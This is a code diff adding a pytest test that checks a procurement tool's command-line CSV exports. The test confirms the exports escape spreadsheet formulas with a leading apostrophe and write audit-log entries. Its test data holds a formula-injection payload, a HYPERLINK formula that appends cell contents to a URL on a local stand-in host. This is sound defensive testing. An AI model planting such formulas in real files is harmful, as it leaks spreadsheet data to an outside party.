@@ -175,3 +175,32 @@ def test_a_title_with_an_entitys_odd_code_still_names_a_sheet(tmp_path):
     store = open_store(f"sqlite:///{tmp_path / 'x.sqlite3'}")
     data = exports.table(store, system_user(store), "供应情况_ZX/001:[甲]", pd.DataFrame({"a": [1]}), {"a": "数量"})
     assert openpyxl.load_workbook(io.BytesIO(data)).sheetnames[0] == "供应情况_ZX_001__甲_"
+
+
+def test_the_command_lines_csv_keeps_formulas_as_text_and_is_audited(demo_copy, monkeypatch):
+    """What `python -m core complaints list / flags / indicators` prints is an export: audited for the account that
+    asked, and a name that looks like a formula is written so that a spreadsheet shows it (a leading apostrophe)."""
+    import contextlib
+    from core import demo
+    from core.cli import main as cli
+    county = demo_copy.read("SELECT area_code FROM users WHERE username = 'demo_county'")["area_code"].iloc[0]
+    code = demo_copy.read("SELECT c.institution_code FROM complaints c JOIN institutions i "
+                          "ON i.institution_code = c.institution_code WHERE i.county_code = :k ORDER BY 1 LIMIT 1",
+                          {"k": county})["institution_code"].iloc[0]
+    formula = '=HYPERLINK("http://127.0.0.1:9/?q="&A1,"医院")'
+    with demo_copy.begin() as conn:
+        conn.exec_driver_sql("UPDATE institutions SET institution_name = ? WHERE institution_code = ?", (formula, code))
+        demo_copy.bump_data_version(conn)
+    monkeypatch.setenv("VBP_PASSWORD", demo.DEMO_PASSWORD)
+    printed = {}
+    for args in (["complaints", "list"], ["flags"], ["indicators", "--level", "county"]):
+        out = io.StringIO()
+        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(io.StringIO()):
+            assert cli.main([*args, "--db", demo_copy.url, "--user", "demo_county"]) == 0
+        printed[" ".join(args)] = pd.read_csv(io.StringIO(out.getvalue()), dtype=str, keep_default_na=False)
+    names = printed["complaints list"].set_index("institution_code")["institution_name"]
+    assert set(names.loc[[code]]) == {"'" + formula}
+    logged = demo_copy.read("SELECT username, target, detail FROM audit_log WHERE action = 'export' ORDER BY audit_id")
+    assert logged["username"].tolist() == ["demo_county"] * 3
+    assert logged["target"].tolist() == ["命令行 complaints list", "命令行 flags", "命令行 indicators county"]
+    assert logged["detail"].tolist() == [f"{len(printed[k])} rows, csv" for k in printed]
